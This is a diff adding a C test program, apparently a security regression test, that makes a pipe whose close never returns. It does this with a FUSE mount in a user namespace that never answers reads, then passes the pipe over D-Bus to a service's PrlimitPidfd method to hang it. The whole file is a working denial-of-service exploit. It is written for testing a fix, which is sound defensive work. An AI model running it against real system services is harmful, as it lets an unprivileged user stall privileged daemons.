@@ -1,0 +1,226 @@
+/* SPDX-License-Identifier: LGPL-2.1-or-later */
+/* security-gate-pipe: a pipe whose close waits. Run as nobody. It serves a
+ * FUSE file from its own user namespace whose READ it never answers; a child
+ * mmap()s it and write()s from the mapping into a pipe: pipe_write() holds
+ * the pipe's mutex across the page fault, which waits on that READ for good,
+ * so whoever releases the pipe's last reader waits too (pipe_release()).
+ *
+ *   attack-pipelock stuck N   N rounds: the read end of such a pipe passed
+ *                             to PrlimitPidfd at org.example.Resource1.Pidfd,
+ *                             each to the gate serving then; prints
+ *                             "WRITER pid state", "ROUND i OWNER pid ANSWER
+ *                             ms text", then DONE, and holds on (killed, or
+ *                             its connection aborted, to let go)
+ *   attack-pipelock plain     a pipe no one writes to: "ANSWER ms text"
+ *
+ * Prints "SKIP why" where FUSE in a user namespace cannot be had. */
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/fuse.h>
+#include <sched.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
+#include <unistd.h>
+#include <systemd/sd-bus.h>
+
+#define GATE "org.example.Resource1.Pidfd"
+
+static double now(void) { struct timespec t; clock_gettime(CLOCK_MONOTONIC, &t); return t.tv_sec + t.tv_nsec / 1e9; }
+static int devfd;
+static void reply(uint64_t unique, int error, const void *arg, size_t size) {
+        struct fuse_out_header out = { .len = (uint32_t) (sizeof out + size), .error = error, .unique = unique };
+        struct iovec iov[2] = { { &out, sizeof out }, { (void *) arg, size } };
+        (void) !writev(devfd, iov, size ? 2 : 1);
+}
+static void fill_attr(struct fuse_attr *a, uint64_t node) {
+        *a = (struct fuse_attr) { .ino = node, .nlink = 1, .blksize = 4096, .size = node == 1 ? 0 : 1 << 20,
+                                  .mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0666 };
+}
+static void serve(void) {
+        size_t size = (1 << 20) + 4096;
+        char *buf = malloc(size);
+        for (;;) {
+                ssize_t n = read(devfd, buf, size);
+                if (n < 0 && (errno == EINTR || errno == ENOENT)) continue;
+                if (n < (ssize_t) sizeof(struct fuse_in_header)) break;
+                struct fuse_in_header *in = (void *) buf; void *body = buf + sizeof *in;
+                switch (in->opcode) {
+                case FUSE_INIT: {
+                        struct fuse_init_in *i = body;
+                        struct fuse_init_out o = { .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION,
+                                                   .max_readahead = i->max_readahead, .max_write = 4096, .time_gran = 1 };
+                        reply(in->unique, 0, &o, sizeof o); break; }
+                case FUSE_LOOKUP: {
+                        if (strcmp(body, "f")) { reply(in->unique, -ENOENT, NULL, 0); break; }
+                        struct fuse_entry_out o = { .nodeid = 2, .generation = 1, .entry_valid = 3600, .attr_valid = 3600 };
+                        fill_attr(&o.attr, 2); reply(in->unique, 0, &o, sizeof o); break; }
+                case FUSE_GETATTR: {
+                        struct fuse_attr_out o = { .attr_valid = 3600 }; fill_attr(&o.attr, in->nodeid);
+                        reply(in->unique, 0, &o, sizeof o); break; }
+                case FUSE_OPEN: case FUSE_OPENDIR: {
+                        struct fuse_open_out o = { .fh = 1 }; reply(in->unique, 0, &o, sizeof o); break; }
+                case FUSE_READ: break;   /* never answered */
+                case FUSE_POLL: break;
+                case FUSE_FLUSH: case FUSE_RELEASE: case FUSE_RELEASEDIR: reply(in->unique, 0, NULL, 0); break;
+                case FUSE_INTERRUPT: case FUSE_FORGET: case FUSE_BATCH_FORGET: break;
+                default: reply(in->unique, -ENOSYS, NULL, 0); break;
+                }
+        }
+        _exit(0);
+}
+static int wr(const char *p, const char *t) { int fd = open(p, O_WRONLY); if (fd < 0) return -1; int r = write(fd, t, strlen(t)); close(fd); return r < 0 ? -1 : 0; }
+
+/* The file "f" of a fresh FUSE mount in a user namespace of our own,
+ * served by a child that never answers a READ (nor a POLL). */
+static int fuse_file(void) {
+        int sp[2]; socketpair(AF_UNIX, SOCK_SEQPACKET, 0, sp);
+        char dir[] = "/tmp/attack-pipelock.XXXXXX"; if (!mkdtemp(dir)) { printf("SKIP mkdtemp: %m\n"); exit(0); }
+        uid_t uid = getuid(); gid_t gid = getgid();
+        if (fork() == 0) {
+                close(sp[0]);
+                char m[64];
+                if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) { printf("SKIP no user namespace for nobody: %m\n"); _exit(1); }
+                snprintf(m, sizeof m, "0 %u 1", uid); wr("/proc/self/uid_map", m); wr("/proc/self/setgroups", "deny");
+                snprintf(m, sizeof m, "0 %u 1", gid); wr("/proc/self/gid_map", m);
+                mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
+                devfd = open("/dev/fuse", O_RDWR);
+                if (devfd < 0) { printf("SKIP /dev/fuse: %m\n"); _exit(1); }
+                char o[128]; snprintf(o, sizeof o, "fd=%d,rootmode=40000,user_id=0,group_id=0", devfd);
+                if (mount("pipelock", dir, "fuse", MS_NOSUID | MS_NODEV, o) < 0) { printf("SKIP FUSE mount in a user namespace: %m\n"); _exit(1); }
+                if (fork() == 0) {
+                        char p[128]; snprintf(p, sizeof p, "%s/f", dir);
+                        int f = open(p, O_RDONLY);
+                        if (f < 0) { perror("open f"); _exit(1); }
+                        char c = 0; struct iovec iov = { &c, 1 };
+                        union { struct cmsghdr h; char b[CMSG_SPACE(sizeof(int))]; } ctl = {};
+                        struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = ctl.b, .msg_controllen = sizeof ctl.b };
+                        struct cmsghdr *cm = CMSG_FIRSTHDR(&mh); cm->cmsg_level = SOL_SOCKET; cm->cmsg_type = SCM_RIGHTS;
+                        cm->cmsg_len = CMSG_LEN(sizeof(int)); memcpy(CMSG_DATA(cm), &f, sizeof f);
+                        sendmsg(sp[1], &mh, 0); _exit(0);
+                }
+                serve();
+        }
+        close(sp[1]);
+        char c; char b[CMSG_SPACE(sizeof(int))]; struct iovec iov = { &c, 1 };
+        struct msghdr mh = { .msg_iov = &iov, .msg_iovlen = 1, .msg_control = b, .msg_controllen = sizeof b };
+        if (recvmsg(sp[0], &mh, 0) <= 0) exit(0);   /* the server said why (SKIP) */
+        int f; memcpy(&f, CMSG_DATA(CMSG_FIRSTHDR(&mh)), sizeof f);
+        return f;
+}
+
+/* A pipe whose mutex is held by a writer (a child of its own: its page
+ * fault holds only its own mmap_lock) faulting on the FUSE mapping: the
+ * read end. */
+static int ffile = -1;
+static int stuck_pipe(void) {
+        static int next;
+        int i = next++;
+        int p[2]; if (pipe2(p, O_CLOEXEC) < 0) { perror("pipe"); exit(1); }
+        pid_t c = fork();
+        if (c == 0) {
+                close(p[0]);
+                char *m = mmap(NULL, 1 << 20, PROT_READ, MAP_SHARED, ffile, 0);
+                if (m == MAP_FAILED) { perror("mmap"); _exit(1); }
+                ssize_t n = write(p[1], m + (size_t) (i % 256) * 4096, 4096);
+                fprintf(stderr, "writer %d returned %zd (%s)\n", i, n, n < 0 ? strerror(errno) : "");
+                _exit(0);
+        }
+        close(p[1]);
+        usleep(200000);
+        char path[64], b[256] = ""; snprintf(path, sizeof path, "/proc/%d/stat", c);
+        FILE *f = fopen(path, "re"); if (f) { if (fgets(b, sizeof b, f)) {} fclose(f); }
+        char *st = strrchr(b, ')');
+        printf("WRITER %d %c\n", c, st ? st[2] : '?');
+        return p[0];
+}
+
+static unsigned answered;
+static char last[512];
+static int on_reply(sd_bus_message *m, void *u, sd_bus_error *e) {
+        (void) u, (void) e;
+        const sd_bus_error *er = sd_bus_message_get_error(m);
+        answered++;
+        snprintf(last, sizeof last, "%s: %s", er ? er->name : "OK", er ? er->message : "");
+        return 0;
+}
+
+static unsigned owner_pid(sd_bus *b) {
+        sd_bus_message *r = NULL;
+        uint32_t pid = 0;
+        if (sd_bus_call_method(b, "org.freedesktop.DBus", "/org/freedesktop/DBus", "org.freedesktop.DBus",
+                               "GetConnectionUnixProcessID", NULL, &r, "s", GATE) >= 0)
+                (void) sd_bus_message_read(r, "u", &pid);
+        sd_bus_message_unref(r);
+        return pid;
+}
+
+/* Passes fd to PrlimitPidfd, closes ours at once (so that, the gate being
+ * busy with the pings, its copy is the last reference once it has the
+ * message; should the bus's be, the bus waits instead: a dbus-daemon
+ * weakness outside the service) and waits up to 6 s for the answer: its time
+ * in ms, or -1. */
+static long pass(sd_bus *b, int fd) {
+        answered = 0;
+        /* Keep the gate busy for a moment, so that the bus has closed its
+         * copy before the gate reads the call. */
+        for (int k = 0; k < 300; k++)
+                (void) sd_bus_call_method_async(b, NULL, GATE, "/", "org.freedesktop.DBus.Peer", "Ping", NULL, NULL, "");
+        double t = now();
+        if (sd_bus_call_method_async(b, NULL, GATE, "/org/example/Resource1", "org.example.Resource1", "PrlimitPidfd",
+                                     on_reply, NULL, "hsbtt", fd, "NOFILE", 0, (uint64_t) 0, (uint64_t) 0) < 0)
+                return -1;
+        close(fd);
+        while (!answered && now() - t < 6) {
+                (void) sd_bus_process(b, NULL);
+                (void) sd_bus_wait(b, 100000);
+        }
+        while (sd_bus_process(b, NULL) > 0)
+                ;
+        return answered ? (long) ((now() - t) * 1000) : -1;
+}
+
+int main(int argc, char **argv) {
+        setvbuf(stdout, NULL, _IOLBF, 0);
+        if (argc < 2 || (strcmp(argv[1], "stuck") && strcmp(argv[1], "plain"))) {
+                fprintf(stderr, "usage: attack-pipelock stuck N | plain\n");
+                return 2;
+        }
+        sd_bus *b = NULL;
+        if (sd_bus_open_system(&b) < 0) {
+                printf("FAIL no system bus\n");
+                return 1;
+        }
+        if (!strcmp(argv[1], "plain")) {
+                int p[2];
+                if (pipe2(p, O_CLOEXEC) < 0)
+                        return 1;
+                close(p[1]);
+                long ms = pass(b, p[0]);
+                printf("ANSWER %ld %s\n", ms, ms < 0 ? "(none in 6 s)" : last);
+                return 0;
+        }
+        ffile = fuse_file();
+        unsigned n = argc > 2 ? (unsigned) atoi(argv[2]) : 1;
+        for (unsigned i = 0; i < n; i++) {
+                unsigned o = owner_pid(b);
+                long ms = pass(b, stuck_pipe());
+                printf("ROUND %u OWNER %u ANSWER %ld %s\n", i, o, ms, ms < 0 ? "(none in 6 s)" : last);
+                /* The next round goes to the next gate: this one retires
+                 * (or, on the old code, is replaced by the heartbeat). */
+                double t = now();
+                while (owner_pid(b) == o && now() - t < 8)
+                        usleep(100000);
+        }
+        printf("DONE\n");
+        pause();
+        return 0;
+}
